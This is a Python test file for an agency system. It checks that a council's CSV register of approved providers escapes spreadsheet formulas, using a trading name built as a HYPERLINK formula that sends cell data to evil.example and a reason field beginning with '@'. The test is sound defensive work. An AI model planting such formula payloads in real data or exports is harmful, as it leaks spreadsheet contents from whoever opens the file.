"""A provider's trading name crafted as a spreadsheet formula reaches the council's CSV as text."""

import csv
import io

from agency.ids import new_id
from agency.providers.models import IsfApproval
from tests.factories import bearer, make_agency, make_auditor, make_provider, make_user

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_the_approved_provider_register_csv_neutralises_a_formula_trading_name(client, session):
    agency = make_agency(session)
    provider = make_provider(session, agency, trading_name=FORMULA)
    session.add(
        IsfApproval(
            id=new_id("isa"),
            provider_id=provider.id,
            council_id=agency.council_id,
            approved=True,
            reason="@SUM(1+1)",
            recorded_by=make_user(session).id,
        )
    )
    session.commit()
    response = client.get(
        "/isf-approved-providers.csv",
        headers=bearer(session, make_auditor(session, agency.council)),
    )
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert row[header.index("trading_name")] == "'" + FORMULA
    assert row[header.index("reason")] == "'@SUM(1+1)"
    assert row[header.index("isf_invoiced_pence")] == "0.00"
